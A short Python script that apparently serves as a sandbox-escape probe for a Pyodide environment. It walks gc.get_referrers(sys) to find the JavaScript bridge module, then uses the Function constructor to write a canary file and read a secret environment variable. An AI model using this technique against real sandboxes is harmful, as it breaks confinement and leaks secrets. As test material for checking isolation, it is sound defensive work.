# Tries: ask gc.get_referrers(sys) for every namespace that holds sys, and look there for js or pyodide.
import asyncio
import gc
import json
import sys
import types

CANARY = "__LOOPLAB_CANARY__"
SECRET_NAME = "__LOOPLAB_SECRET_NAME__"

BODY = f"""
  const fs = globalThis.process?.getBuiltinModule?.('fs');
  fs?.writeFileSync({json.dumps(CANARY)}, 'written through gc.get_referrers');
  return String(globalThis.process?.env?.[{json.dumps(SECRET_NAME)}]);
"""


async def main():
    try:
        namespaces = [r for r in gc.get_referrers(sys) if isinstance(r, dict)]
    except Exception as exc:
        print("REFUSED:", type(exc).__name__, exc)
        return
    for namespace in namespaces:
        for value in list(namespace.values()):
            if isinstance(value, types.ModuleType) and value.__name__ in ("js", "pyodide_js"):
                secret = value.constructor.constructor(BODY)()
                print("ESCAPED: gc.get_referrers led to", value.__name__, "the secret is", secret)
                return
    print("REFUSED: no namespace holding sys holds a JavaScript module")


asyncio.run(main())
